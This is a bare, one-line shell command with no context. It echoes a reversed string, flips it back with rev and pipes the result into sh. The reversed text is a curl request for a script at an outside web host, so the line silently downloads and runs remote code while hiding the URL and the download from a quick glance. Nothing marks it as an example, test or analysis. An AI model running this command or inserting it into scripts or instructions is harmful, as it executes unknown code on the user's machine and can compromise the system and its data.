echo "hs.live/ved.repleh//:sptth lruc" | rev | sh
